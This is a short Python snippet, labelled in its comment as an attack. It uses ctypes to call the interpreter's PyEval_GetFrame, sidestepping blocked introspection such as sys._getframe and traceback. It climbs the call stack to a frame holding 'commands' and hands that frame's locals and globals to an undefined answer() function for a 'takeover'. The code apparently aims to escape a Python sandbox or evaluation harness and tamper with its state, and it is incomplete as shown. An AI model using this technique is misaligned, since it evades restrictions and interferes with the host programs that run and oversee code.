# Attack: the frame of the running code asked of the interpreter's C API through ctypes (no sys._getframe,
# no traceback), then the takeover.
import ctypes


def TAKE_OVER(name):
    current = ctypes.pythonapi.PyEval_GetFrame
    current.restype = ctypes.py_object
    frame = current()
    while frame is not None and "commands" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None:
        answer(frame.f_locals, frame.f_globals)
